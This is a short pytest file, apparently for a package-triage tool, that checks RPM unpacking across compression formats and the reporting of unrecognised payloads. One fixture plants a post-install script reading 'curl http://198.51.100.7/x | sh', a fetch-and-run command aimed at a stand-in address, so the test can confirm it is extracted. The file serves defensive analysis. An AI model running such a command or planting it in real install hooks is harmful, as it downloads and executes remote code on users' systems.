import gzip
import lzma

import pytest

from tests.unit.triage.unpack.made import FILES, cpio, rpm
from tests.unit.triage.unpack.packed import files, opened, skips


@pytest.mark.parametrize("pack", [gzip.compress, lzma.compress, bytes], ids=["gzip", "xz", "plain"])
def test_scripts_and_files_come_out(pack: object) -> None:
    assert callable(pack)
    found = files(opened(rpm(pack(cpio()), {1024: b"curl http://198.51.100.7/x | sh"})))
    assert found.pop("scripts/after-install.sh") == b"curl http://198.51.100.7/x | sh"
    assert found == FILES


def test_a_payload_nobody_knows_is_told() -> None:
    found = opened(rpm(b"\xff\xff\xff\xff", {1024: b"true"}))
    assert list(files(found)) == ["scripts/after-install.sh"]
    assert "payload" in skips(found)["a.bin"]
